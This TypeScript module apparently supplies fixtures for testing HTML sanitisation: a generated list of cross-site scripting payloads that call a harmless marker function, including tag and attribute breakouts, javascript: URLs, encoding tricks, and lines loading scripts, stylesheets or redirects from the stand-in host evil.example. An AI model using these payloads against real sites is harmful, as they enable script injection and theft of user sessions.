/** Runs in the page, if anything of a payload ever does. */
export const ALARM = 'xssAlarm';

const CALL = `${ALARM}()`;

const EVENTS = [
  'onload',
  'onerror',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
];
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'marquee',
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
];

const PAYLOADS: Record<string, string[]> = {
  'script elements': [
    `<script>${CALL}</script>`,
    `<ScRiPt>${CALL}</sCrIpT>`,
    `<script src=//evil.example/x.js></script>`,
    `<script src="https://evil.example/x.js"></script>`,
    `<script type=module>${CALL}</script>`,
    `<script\x0c>${CALL}</script>`,
    `<script/x>${CALL}</script>`,
    `<scr<script>ipt>${CALL}</scr</script>ipt>`,
    `<svg><script>${CALL}</script></svg>`,
    `<math><mtext><script>${CALL}</script>`,
    `</script><script>${CALL}</script>`,
    `--></style></textarea></title><script>${CALL}</script>`,
  ],
  'event handlers': ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=${CALL}>`)),
  'addresses that are scripts': SCHEMES.flatMap((scheme) => [
    `<a href="${scheme}${CALL}">Click</a>`,
    `<iframe src="${scheme}${CALL}"></iframe>`,
    `${scheme}${CALL}`,
  ]),
  links: [
    `https://evil.example/"onmouseover="${CALL}`,
    `https://evil.example/'onclick='${CALL}`,
    `https://evil.example/<script>${CALL}</script>`,
    `[Click](javascript:${CALL})`,
    `![x](https://evil.example/x.png)`,
    `<https://evil.example/>`,
  ],
  'out of an attribute': [
    `"><img src=x onerror=${CALL}>`,
    `'><img src=x onerror=${CALL}>`,
    `" autofocus onfocus="${CALL}`,
    `' onfocus='${CALL}`,
    `\` onfocus=\`${CALL}`,
  ],
  'out of a text of a program': [
    `';${CALL};//`,
    `";${CALL};//`,
    `\\';${CALL};//`,
    `\${${CALL}}`,
    `{{${CALL}}}`,
    `{{constructor.constructor("${CALL}")()}}`,
    `\u2028${CALL}\u2029`,
  ],
  'markup of others': [
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<style>@import "//evil.example/x.css";</style>',
    '<style>*{background:url(//evil.example/x)}</style>',
    '<base href=//evil.example/>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    `<object data="data:text/html,<script>${CALL}</script>"></object>`,
    '<embed src=//evil.example/x.swf>',
    `<form action=//evil.example/><button autofocus>Send</button></form>`,
    `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
    `<img src=//evil.example/x.png>`,
    `<img srcset="//evil.example/x.png 1x">`,
    `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
    `<svg><use href="data:image/svg+xml,<svg id='x'/>#x"></svg>`,
    `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
    `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
    `<template><script>${CALL}</script></template>`,
  ],
  encodings: [
    `&lt;script&gt;${CALL}&lt;/script&gt;`,
    `&#60;script&#62;${CALL}&#60;/script&#62;`,
    `%3Cscript%3E${CALL}%3C/script%3E`,
    `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
    `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
    `<\0script>${CALL}</script>`,
    `<img src=x onerror=&#${ALARM.charCodeAt(0)};${CALL.slice(1)}>`,
    `\u202e<script>${CALL}</script>`,
    `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  ],
};

/** What strangers may text, by the hundred. */
export const XSS_PAYLOADS = Object.values(PAYLOADS).flat();
